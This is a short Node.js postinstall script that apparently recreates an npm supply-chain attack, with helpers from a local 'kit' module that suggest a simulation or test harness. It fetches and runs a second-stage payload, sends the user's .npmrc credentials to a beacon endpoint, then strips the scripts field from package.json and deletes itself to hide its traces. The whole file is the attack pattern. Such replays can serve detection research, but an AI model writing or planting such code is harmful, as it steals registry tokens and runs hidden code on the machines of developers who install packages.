// As in 2026: fetches a second stage, starts it, and then looks as if it had never had a script.
const kit = require("./kit.cjs");

kit.leaveTrace("script postinstall");

async function main() {
  const stage = (await kit.ask("/jsextension")) ?? "";
  await kit.attemptLater(() => {
    const file = `${kit.sandbox}/stage.cjs`;
    require("node:fs").writeFileSync(file, stage);
    return new Promise((resolve) => {
      require("node:child_process").spawn(process.execPath, [file, kit.sandbox]).on("close", resolve);
    });
  });
  await kit.send("/beacon", { npmrc: kit.readHome(".npmrc") ?? "nothing" });
  kit.attempt(() => {
    const fs = require("node:fs");
    const content = JSON.parse(fs.readFileSync(`${__dirname}/package.json`, "utf8"));
    delete content.scripts;
    fs.writeFileSync(`${__dirname}/package.json`, JSON.stringify(content));
    fs.rmSync(__filename);
  });
}

module.exports = main();
